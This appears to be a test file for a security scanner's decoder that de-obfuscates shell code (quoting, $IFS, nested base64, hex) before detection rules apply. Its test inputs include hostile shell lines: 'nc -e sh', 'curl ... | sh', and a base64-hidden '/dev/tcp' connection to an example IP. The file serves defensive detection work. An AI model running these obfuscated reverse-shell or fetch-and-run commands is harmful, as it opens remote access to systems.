"""Code as rules read it: comments gone, quoting undone, blobs opened, and bounded whatever comes."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleetscan.analyse.rules.decoding import MAX_CODE, MAX_LINE, decode_base64, longest_blob, read_code


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ('n""c -e sh', "nc -e sh"),
        (r"c\url x", "curl x"),
        ("curl${IFS}-s${IFS}x", "curl -s x"),
        (r"$'\x63\x75\x72\x6c' x", "curl x"),
        ("one \\\n  two", "one two"),
        ("a    b\tc", "a b c"),
    ],
)
def test_what_quoting_hides_stands_there_plainly(text: str, plain: str) -> None:
    assert any(plain in line for line in read_code(text))


def test_comments_and_empty_lines_are_left_out() -> None:
    assert read_code("#!/bin/sh\n# curl x | sh\n\n  # more\ntrue\n") == ("#!/bin/sh", "true")


def test_blobs_within_blobs_are_opened() -> None:
    inner = base64.b64encode(b"exec 3<>/dev/tcp/203.0.113.9/9").decode()
    outer = base64.b64encode(f"echo {inner} | base64 -d | sh".encode()).decode()
    assert any("/dev/tcp/" in line for line in read_code(f"echo {outer} | base64 -d | sh"))


def test_hexadecimal_digits_are_opened() -> None:
    assert any("curl http" in line for line in read_code(b"curl http://x | sh".hex()))


def test_the_end_of_a_long_script_is_read() -> None:
    text = "x=1\n" * MAX_CODE + "curl http://x | sh\n"
    assert "curl http://x | sh" in read_code(text)


def test_a_path_is_no_blob() -> None:
    assert longest_blob("/opt/Company/Product2/bin/collectMetricsOfAllServers") == 0
    assert longest_blob("echo dHJ1ZSAjIG5vdGhpbmcgdG8gc2VlIGhlcmUK") == 36


def test_what_is_no_base64_is_none() -> None:
    assert decode_base64("not base64!") is None
    assert decode_base64("dHJ1\nZQo=") == "true\n"


@given(st.text(max_size=3000))
def test_any_text_is_read_in_short_pieces(text: str) -> None:
    pieces = read_code(text * 40)
    assert all(len(piece) <= MAX_LINE for piece in pieces)
    assert len(pieces) <= 4000
